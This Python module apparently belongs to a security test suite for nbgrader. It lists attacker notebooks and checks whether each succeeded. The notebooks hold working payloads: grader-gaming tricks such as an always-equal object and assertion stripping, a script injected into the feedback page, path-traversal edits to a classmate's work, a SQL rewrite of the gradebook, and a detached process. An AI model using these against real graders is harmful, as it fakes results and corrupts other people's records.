"""The attacks: what a learner's notebook holds, and how to see that it reached its aim."""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Callable, Sequence
from contextlib import closing
from dataclasses import dataclass
from html.parser import HTMLParser

from benchmarks.stock_nbgrader.scratch import CLASSMATE, HIDDEN, LAST, POINTS, Scratch

RIGHT = "def mean(values):\n    return sum(values) / len(values)\n"
WRONG = "def mean(values):\n    return 2\n"  # passes the test that learners see
LARGE = 5_000_000
"""Bytes of a notebook or page that count as outsized."""


@dataclass(frozen=True)
class Attack:
    """One notebook of an attacker.

    Attributes:
        aim: what it tries, as the page prints it.
        answer: the cell for the answer.
        succeeded: whether the graded course shows that the aim was reached.
        text: a Markdown cell of its own.
        more: further code cells.
    """

    aim: str
    answer: str
    succeeded: Callable[[Scratch, str], bool]
    text: str = ""
    more: Sequence[str] = ()


def _full_points(course: Scratch, attacker: str) -> bool:
    return course.points(attacker) == POINTS


def _mark_changed(course: Scratch, attacker: str) -> bool:
    return course.points(CLASSMATE) != POINTS


def _others_not_graded(course: Scratch, attacker: str) -> bool:
    return course.points(LAST) != POINTS


def _shows_hidden_tests(course: Scratch, attacker: str) -> bool:
    return HIDDEN in re.sub(r"<[^>]*>", "", course.page(attacker))


def _work_changed(course: Scratch, attacker: str) -> bool:
    return "stolen" in course.submitted(CLASSMATE).read_text("utf-8")


def _outsized(course: Scratch, attacker: str) -> bool:
    return max(course.bytes_written(attacker).values()) > LARGE


def _page_outsized(course: Scratch, attacker: str) -> bool:
    return len(course.page(attacker)) > LARGE


def _waited_again(course: Scratch, attacker: str) -> bool:
    return course.graded(attacker).count('"CellTimeoutError"') > 1


def _left_a_process(course: Scratch, attacker: str) -> bool:
    """Return whether the process wrote its file, at most 10 s after the kernel ended."""
    end = time.monotonic() + 10
    while time.monotonic() < end and not (course.root / "later.txt").exists():
        time.sleep(0.2)
    return (course.root / "later.txt").exists()


class _Scripts(HTMLParser):
    """Finds the attacker's script in a page, as an element or as a handler of an event."""

    found = False
    inside = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag == "script"
        self.found |= any(name.startswith("on") and "stolen" in (to or "") for name, to in attrs)

    def handle_endtag(self, tag: str) -> None:
        self.inside = False

    def handle_data(self, data: str) -> None:
        self.found |= self.inside and "stolen" in data


def _script_in_page(course: Scratch, attacker: str) -> bool:
    parser = _Scripts()
    parser.feed(course.page(attacker))
    return parser.found


def _lookup(text: str) -> str:
    """Return an answer that finds the expected value in the source of the tests."""
    return (
        "import glob, re\n"
        f"def mean(values):\n    text = {text}\n"
        "    found = re.search(re.escape(f'mean({values})') + r' - ([0-9]+)', text)\n"
        "    return int(found[1]) if found else 2\n"
    )


_NO_ASSERT = """import ast
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(NoAssert())
"""
_ALWAYS = """class Always:
    def __sub__(self, other): return self
    def __abs__(self): return self
    def __eq__(self, other): return True
    def __lt__(self, other): return True
def mean(values):
    return Always()
"""
_ENDLESS = "while True:\n    pass\n"
_LATER = """import os, subprocess, sys
code = '''import os, time
for _ in range(600):
    try:
        os.kill(%d, 0)
    except OSError:
        break
    time.sleep(0.1)
open("../../../later.txt", "w").write("still here")
''' % os.getpid()
quiet = {each: subprocess.DEVNULL for each in ("stdin", "stdout", "stderr")}
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, **quiet)
"""
_DATABASE = """import sqlite3
with sqlite3.connect("../../../gradebook.db", timeout=10) as book:
    book.execute(
        "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id FROM"
        " submitted_notebook JOIN submitted_assignment ON submitted_assignment.id ="
        " submitted_notebook.assignment_id"
        " WHERE student_id = 'ada')"
    )
"""
_TEXT = '<script>stolen = 1</script><img src="x" onerror="stolen = 1">'
_HTML = f"from IPython.display import HTML, display\ndisplay(HTML({_TEXT!r}))\n"
_CLASSMATE = f"""import pathlib
path = pathlib.Path("../../../submitted/{CLASSMATE}/lab/lab.ipynb")
path.write_text(path.read_text().replace("sum(values)", "stolen"))
"""

_listener = socket.socket()
_listener.bind(("127.0.0.1", 0))
_listener.listen()
_listener.setblocking(False)
_CONNECT = f"""import socket
socket.create_connection(("127.0.0.1", {_listener.getsockname()[1]}), timeout=5).close()
"""


def _connected(course: Scratch, attacker: str) -> bool:
    try:
        connection, _ = _listener.accept()
    except BlockingIOError:
        return False
    with closing(connection):
        return True


ATTACKS = {
    "page": Attack("read the hidden tests in the feedback page", WRONG, _shows_hidden_tests),
    "print": Attack(
        "print the hidden tests from the notebook's file", 
        WRONG + "print(open('lab.ipynb').read())\n", _shows_hidden_tests,
    ),
    "file": Attack(
        "take the expected values from the notebook's file",
        _lookup("open('lab.ipynb').read()"), _full_points,
    ),
    "kernel": Attack(
        "take the expected values from the kernel's history",
        _lookup("get_ipython().user_ns['In'][-1]"), _full_points,
    ),
    "comparison": Attack("return an object that equals everything", _ALWAYS, _full_points),
    "assertions": Attack("remove the assertions before they run", _NO_ASSERT + WRONG, _full_points),
    "exit": Attack(
        "end the kernel, so that nobody else is graded",
        "import os\nos._exit(0)\n", _others_not_graded,
    ),
    "endless": Attack(
        "use up the time limit of a cell once more in each further cell", _ENDLESS, _waited_again,
        more=[_ENDLESS] * 2,
    ),
    "later": Attack("leave a process that runs on after grading", _LATER + WRONG, _left_a_process),
    "script": Attack(
        "run a script in the feedback page", _HTML + WRONG, _script_in_page, text=_TEXT
    ),
    "classmate": Attack("change a classmate's work", _CLASSMATE + WRONG, _work_changed),
    "gradebook": Attack("change a classmate's mark", _DATABASE + WRONG, _mark_changed),
    "network": Attack("open a network connection", _CONNECT + WRONG, _connected),
    "large-page": Attack(
        "make the feedback page outsized", "print('x' * 20_000_000)\n" + WRONG, _page_outsized
    ),
    "large-notebook": Attack(
        "make the graded notebook outsized", "print('x' * 20_000_000)\n" + WRONG, _outsized
    ),
}  # fmt: skip
"""The attacks by the name of the learner who tries each."""
